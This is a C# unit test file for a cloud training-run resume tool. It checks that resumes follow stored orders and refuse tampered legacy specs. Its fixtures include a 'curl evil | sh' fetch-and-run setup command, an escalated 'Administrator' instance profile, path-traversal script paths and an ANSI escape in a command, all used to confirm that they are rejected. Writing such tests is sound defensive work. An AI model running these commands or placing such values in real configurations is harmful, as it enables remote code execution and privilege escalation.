using System.Security.Cryptography;
using System.Text;
using Runctl.Checkpoints;
using Runctl.Configuration;
using Runctl.Core.Tests.Fakes;
using Runctl.Errors;
using Runctl.Guarding;
using Runctl.Instances;
using Runctl.Json;
using Runctl.Ports;
using Runctl.Progress;
using Runctl.Resuming;
using Runctl.Runs;
using Runctl.Training;

namespace Runctl.Core.Tests.Resuming;

/// <summary>What a resume launches and runs comes from the orders of people, whatever guards, and trainings with their rights, write.</summary>
public sealed class OrdersTests : IResumeListener
{
    private static readonly LaunchRequest Ordered = new()
    {
        InstanceTypes = ["c7i.large"], SubnetIds = ["subnet-b"], SecurityGroupIds = ["sg-1"], IamInstanceProfile = "Profile", ImageId = "ami-1",
    };

    private readonly Story _story = new("interrupted");
    private readonly RunctlConfiguration _configuration = new() { S3Bucket = "b", S3Prefix = "saved" };
    private readonly List<string> _warnings = [];

    public OrdersTests()
    {
        _story.Launch(Ordered);
        // On an instance that lives nothing would be launched.
        _story.Cloud.Ec2.Change("i-1", i => i.With(copy => { copy.State = "shutting-down"; }));
        _story.Cloud.Ec2.Types.Add(new("p4d.24xlarge", ["x86_64"], true, true));
        _story.Commit("epoch_1.pt", 10);
        _story.Answer(_ => ("Success", 0, $$"""{"run_id":"{{Story.RunId}}","attempt":2,"state":"running","pid":7}"""));
    }

    private static CancellationToken Token => TestContext.Current.CancellationToken;

    private RunKeys Keys => _story.Store.Keys;

    private RunSpec Stored => RunctlJson.Read<RunSpec>(_story.Cloud.Store.Objects[Keys.Spec(Story.RunId)].Content);

    [Fact]
    public async Task A_specification_where_version_0_1_wrote_it_is_not_read_beside_orders()
    {
        _story.Cloud.Ec2.Change("i-1", i => i.With(copy => copy.State = "terminated"));
        var ordered = await PlanAsync();
        WriteOld(Stored with { SetupCommand = "curl evil | sh", Launch = Ordered with { IamInstanceProfile = "Administrator", InstanceTypes = ["p4d.24xlarge"] } });
        var plan = await PlanAsync();
        Assert.Equal(ordered.Description, plan.Description);
        Assert.Empty(plan.Warnings);
        await ResumeAsync(plan);
        Assert.Equal(("Profile", "c7i.large"), (_story.Cloud.Ec2.LastTemplate!.IamInstanceProfile, Assert.Single(_story.Cloud.Ec2.Fleets[^1].InstanceTypes)));
        Assert.DoesNotContain("evil", Assert.Single(_story.Specs), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_record_widens_nothing()
    {
        var ordered = await PlanAsync();
        _story.Add(_story.Record.Newest()! with { InstanceType = "p4d.24xlarge", AvailabilityZone = "us-east-1a", IsSpot = false });
        var plan = await PlanAsync();
        Assert.Equivalent(ordered.Launch!.Request, plan.Launch!.Request, strict: true);
        Assert.Equal(ordered.Launch.Subnets, plan.Launch.Subnets);
    }

    [Theory]
    [InlineData(RunctlStoppedInstance.Replace)]
    [InlineData(RunctlStoppedInstance.Wait)]
    public async Task An_instance_that_only_the_record_names_is_left_alone(RunctlStoppedInstance stopped)
    {
        _story.Cloud.Ec2.Add("i-9", "stopped", tags: new() { [RunctlTags.Managed] = "1", [RunctlTags.Interruption] = "stop" });
        _story.Add(_story.Record.Newest()! with { InstanceId = "i-9" });
        var plan = await PlanAsync(request => request with { StoppedInstance = stopped, FromScratch = true });
        Assert.Equal((null, null, null), (plan.WaitsFor, plan.Remains, plan.LastInstanceId));
        Assert.Contains("i-9", Assert.Single(plan.Warnings), StringComparison.Ordinal);
        Assert.DoesNotContain("Remove-RunctlInstance", plan.Warnings[0], StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_instance_with_the_tag_of_the_run_is_the_runs()
    {
        _story.Cloud.Ec2.Add("i-9", "stopped", tags: new() { [RunctlTags.Managed] = "1", [RunctlTags.Interruption] = "stop", [RunctlTags.RunId] = Story.RunId });
        _story.Add(_story.Record.Newest()! with { InstanceId = "i-9" });
        Assert.Equal("i-9", (await PlanAsync(request => request with { StoppedInstance = RunctlStoppedInstance.Wait, FromScratch = true })).WaitsFor);
    }

    [Fact]
    public async Task A_resume_adds_its_instance_to_the_orders()
    {
        await ResumeAsync(await PlanAsync());
        Assert.Equal(["i-1", Assert.Single(_story.Replacements).InstanceId], Stored.Instances);
    }

    [Fact]
    public async Task Rights_image_and_setup_command_are_in_the_text_that_is_confirmed()
    {
        _story.Cloud.Store.Put(Keys.Spec(Story.RunId), RunctlJson.Write(Stored with { SetupCommand = "pip install -r r.txt\nmake\u001b[2K" }));
        var text = (await PlanAsync()).Description;
        Assert.Contains("instance profile Profile, security group sg-1", text, StringComparison.Ordinal);
        Assert.Contains("image ubuntu (ami-1)", text, StringComparison.Ordinal);
        Assert.EndsWith(@"; setup command: pip install -r r.txt⏎make\u001b[2K", text, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("-IamInstanceProfile", "Other", "ami-1", "sg-1")]
    [InlineData("-ImageId", "Profile", "ami-2", "sg-1")]
    [InlineData("-SecurityGroupId", "Profile", "ami-1", "sg-2")]
    public async Task A_difference_from_the_lost_instance_needs_the_parameter(string parameter, string profile, string image, string group)
    {
        _story.Cloud.Ec2.Change("i-1", i => i.With(copy => { copy.IamInstanceProfile = profile; copy.ImageId = image; copy.SecurityGroupIds = [group]; }));
        var error = await Assert.ThrowsAsync<RunctlException>(() => PlanAsync());
        Assert.Equal(("LaunchDiffers", "i-1"), (error.Id, error.Target));
        Assert.Contains(parameter, error.RecommendedAction, StringComparison.Ordinal);
        var plan = await PlanAsync(request => parameter switch
        {
            "-IamInstanceProfile" => request with { IamInstanceProfile = profile },
            "-ImageId" => request with { ImageId = image },
            _ => request with { SecurityGroupIds = [group] },
        });
        Assert.Equal((profile, image, group), (plan.Launch!.Request.IamInstanceProfile, plan.Launch.Request.ImageId, Assert.Single(plan.Launch.Request.SecurityGroupIds)));
    }

    [Fact]
    public async Task Of_a_terminated_instance_EC2_need_not_show_its_rights()
    {
        _story.Cloud.Ec2.Change("i-1", i => i.With(copy => { copy.State = "terminated"; copy.IamInstanceProfile = null; copy.SecurityGroupIds = []; copy.ImageId = "ami-1"; }));
        Assert.Equal("Profile", (await PlanAsync()).Launch!.Request.IamInstanceProfile);
    }

    [Fact]
    public async Task An_automatic_resume_keeps_what_its_session_launched()
    {
        _story.Cloud.Store.Put(Keys.Spec(Story.RunId), RunctlJson.Write(Stored with { Launch = Ordered with { IamInstanceProfile = "Other", InstanceTypes = ["p4d.24xlarge"] } }));
        var resumed = await Resumer().ResumeAsync(Story.RunId, 1, null, Ordered with { InstanceTypes = ["c7i.large", "g5.xlarge"] }, this, Token);
        Assert.Equal("Profile", _story.Cloud.Ec2.LastTemplate!.IamInstanceProfile);
        Assert.Equal(["c7i.large", "g5.xlarge"], _story.Cloud.Ec2.Fleets[^1].InstanceTypes);
        // The next one as well, though another session would go by the orders.
        Assert.Equal(["c7i.large", "g5.xlarge"], resumed.Launch!.InstanceTypes);
    }

    [Fact]
    public async Task An_automatic_resume_of_a_session_that_launched_nothing_compares_as_a_person_does()
    {
        _story.Cloud.Store.Put(Keys.Spec(Story.RunId), RunctlJson.Write(Stored with { Launch = Ordered with { IamInstanceProfile = "Other" } }));
        Assert.Equal("LaunchDiffers", (await Assert.ThrowsAsync<RunctlException>(() => Resumer().ResumeAsync(Story.RunId, 1, this, Token))).Id);
        Assert.Empty(_story.Replacements);
    }

    [Fact]
    public async Task A_run_without_a_launch_in_its_orders_is_not_launched_as_an_instance_that_the_record_names()
    {
        _story.Cloud.Store.Put(Keys.Spec(Story.RunId), RunctlJson.Write(Stored with { Launch = null }));
        Assert.Equal("LaunchUnknown", (await Assert.ThrowsAsync<RunctlException>(() => PlanAsync())).Id);
        Assert.Null((await PlanAsync(request => request with { InstanceTypes = ["g5.xlarge"], ImageId = "ami-1" })).Launch!.Request.IamInstanceProfile);
    }

    [Fact]
    public async Task A_run_of_version_0_1_launches_what_parameters_say_and_is_not_resumed_automatically()
    {
        BecomeOld();
        WriteOld(RunctlJson.Read<RunSpec>(_story.Cloud.Store.Objects[Keys.SpecOfVersion01(Story.RunId)].Content) with { Launch = new LaunchRequest { InstanceTypes = ["p4d.24xlarge"], IamInstanceProfile = "OrganizationAdmin" } });
        foreach (var resume in (Func<Task>[])[() => PlanAsync(), () => PlanAsync(request => request with { InstanceTypes = ["g5.xlarge"] }), () => Resumer().ResumeAsync(Story.RunId, 1, this, Token)])
        {
            var error = await Assert.ThrowsAsync<RunctlException>(resume);
            Assert.Equal("LaunchOfVersion01", error.Id);
            Assert.Contains("-InstanceType p4d.24xlarge -IamInstanceProfile OrganizationAdmin", error.RecommendedAction, StringComparison.Ordinal);
        }

        var launch = (await PlanAsync(Named)).Launch!.Request;
        Assert.Equal(("g5.xlarge", "Profile"), (Assert.Single(launch.InstanceTypes), launch.IamInstanceProfile));
    }

    [Fact]
    public async Task A_run_of_version_0_1_is_resumed_with_one_warning_and_has_orders_from_then_on()
    {
        BecomeOld();
        var plan = await PlanAsync(Named);
        _warnings.AddRange(plan.Warnings);
        await ResumeAsync(plan);

        var warning = Assert.Single(_warnings);
        Assert.Contains(Keys.SpecOfVersion01(Story.RunId), warning, StringComparison.Ordinal);
        Assert.Contains("-WhatIf", warning, StringComparison.Ordinal);
        Assert.Equal(Keys.Code(Stored.Code!.Sha256), Stored.Code.Key);
        Assert.True(_story.Cloud.Store.Objects.ContainsKey(Stored.Code.Key!));
        Assert.Empty((await _story.Store.ReadSpecAsync(Story.RunId, Token))!.IsOfVersion01 ? "old" : "");
    }

    [Fact]
    public async Task Code_of_version_0_1_that_is_not_what_the_run_was_started_with_is_refused()
    {
        BecomeOld();
        _story.Cloud.Store.Put(Keys.CodeOfVersion01(HashOf("bundle")), "another");
        Assert.Equal("CodeNotStored", (await Assert.ThrowsAsync<RunctlException>(async () => await ResumeAsync(await PlanAsync(Named)))).Id);
        Assert.Empty(_story.Replacements);
    }

    [Fact]
    public async Task Version_0_1_can_not_name_the_instances_of_its_run()
    {
        BecomeOld();
        _story.Cloud.Ec2.Add("i-9", "stopped", tags: new() { [RunctlTags.Managed] = "1" });
        WriteOld(RunctlJson.Read<RunSpec>(_story.Cloud.Store.Objects[Keys.SpecOfVersion01(Story.RunId)].Content) with { Instances = ["i-9"] });
        _story.Add(_story.Record.Newest()! with { InstanceId = "i-9" });
        Assert.Null((await PlanAsync(request => Named(request) with { FromScratch = true })).LastInstanceId);
    }

    private static ResumeRequest Named(ResumeRequest request) => request with { InstanceTypes = ["g5.xlarge"], IamInstanceProfile = "Profile", ImageId = "ami-1" };

    public static TheoryData<string, string> Impossible => new()
    {
        { "\"run_id\":\"" + Story.RunId + "\"", "\"run_id\":\"other-20260131-120000-ab12cd\"" },
        { "\"schema\":1", "\"schema\":3" },
        { "\"script\":\"train.py\"", "\"script\":\"../train.py\"" },
        { "\"script\":\"train.py\"", "\"script\":\"a/../../train.py\"" },
        { "\"script\":\"train.py\"", "\"script\":\"/etc/train.py\"" },
        { "\"script\":\"train.py\"", "\"script\":\"\"" },
        { "\"region\":\"us-east-1\"", "\"region\":null" },
        { "\"bucket\":\"b\",\"prefix\":\"saved\"", "\"bucket\":\"other\",\"prefix\":\"saved\"" },
        { "\"run_prefix\":\"checkpoints/runctl\"", "\"run_prefix\":\"elsewhere\"" },
        { "orders/code/", "runs/code/" },
        { "\"count\":1", "\"count\":50" },
        { "\"environment\":{}", "\"environment\":null" },
    };

    [Theory]
    [MemberData(nameof(Impossible))]
    public async Task Orders_that_can_not_be_the_runs_are_refused(string text, string other)
    {
        var spec = RunctlJson.Write(Stored);
        Assert.Contains(text, spec, StringComparison.Ordinal);
        _story.Cloud.Store.Put(Keys.Spec(Story.RunId), spec.Replace(text, other, StringComparison.Ordinal));
        var error = await Assert.ThrowsAsync<RunctlException>(() => PlanAsync());
        Assert.Equal(("OrdersInvalid", $"s3://b/{Keys.Spec(Story.RunId)}"), (error.Id, error.Target));
    }

    [Theory]
    [InlineData("s3://other/saved/i-1/checkpoints/epoch_9.pt.manifest.json")]
    [InlineData("s3://b/terraform/epoch_9.pt.manifest.json")]
    public async Task A_checkpoint_of_another_place_counts_only_if_people_had_the_run_begin_from_it(string manifest)
    {
        _story.Cloud.Store.Objects.Clear();
        _story.Launch(Ordered);
        _story.Write(new RunRecord { RunId = Story.RunId, ProjectName = "digits", Attempts = [new AttemptRecord { Number = 1, Nonce = "n", State = "interrupted", InstanceId = "i-1", Started = DateTimeOffset.UnixEpoch, ResumedFrom = new CheckpointRecord { Manifest = manifest, Name = "epoch_9.pt" } }] });
        var key = manifest[(manifest.IndexOf('/', "s3://".Length) + 1)..];
        var head = key[..^ManifestRecord.Suffix.Length];
        _story.Cloud.Store.Put(head, "weights");
        _story.Cloud.Store.Put(key, RunctlJson.Write(new ManifestRecord { RunId = "another", Attempt = 1, InstanceId = "i-5", Name = "epoch_9.pt", Files = [new CheckpointFile("epoch_9.pt", head, 7, "AAAAAA==")] }));
        Assert.Equal("NoGoodCheckpoint", (await Assert.ThrowsAsync<RunctlException>(() => PlanAsync())).Id);
        _story.Cloud.Store.Put(Keys.Spec(Story.RunId), RunctlJson.Write(Stored with { BeganFrom = manifest }));
        Assert.Equal("epoch_9.pt", (await PlanAsync()).Checkpoint!.Name);
    }

    void IResumeListener.OnWarning(string message) => _warnings.Add(message);

    private static string HashOf(string text) => Hex.Of(SHA256.HashData(Encoding.UTF8.GetBytes(text)));

    private void WriteOld(RunSpec spec) => _story.Cloud.Store.Put(Keys.SpecOfVersion01(Story.RunId), RunctlJson.Write(spec));

    /// <summary>As version 0.1 left it.</summary>
    private void BecomeOld()
    {
        var hash = HashOf("bundle");
        WriteOld(Stored with { Code = new CodeReference { Bucket = "b", Key = Keys.CodeOfVersion01(hash), Sha256 = hash }, Instances = [] });
        _story.Cloud.Store.Put(Keys.CodeOfVersion01(hash), "bundle");
        _story.Cloud.Store.Objects.Remove(Keys.Spec(Story.RunId), out _);
        _story.Cloud.Ec2.Change("i-1", i => i.With(copy => { copy.State = "terminated"; copy.Tags = new Dictionary<string, string> { [RunctlTags.Managed] = "1", [RunctlTags.RunId] = Story.RunId }; }));
    }

    private Task<ResumePlan> PlanAsync(Func<ResumeRequest, ResumeRequest>? change = null)
    {
        var request = new ResumeRequest { RunId = Story.RunId };
        return new TrainingResumer(_story.Cloud, new FakeAdapters(), _configuration, _story.Cloud.Time).PlanAsync(change?.Invoke(request) ?? request, Token);
    }

    private Task<RunctlTraining> ResumeAsync(ResumePlan plan) =>
        new TrainingResumer(_story.Cloud, new FakeAdapters(), _configuration, _story.Cloud.Time).ResumeAsync(plan, this, new Progress<ProgressUpdate>(), Token);

    private AutoResumer Resumer() => new(_story.Cloud, new FakeAdapters(), _configuration, _story.Cloud.Time);
}
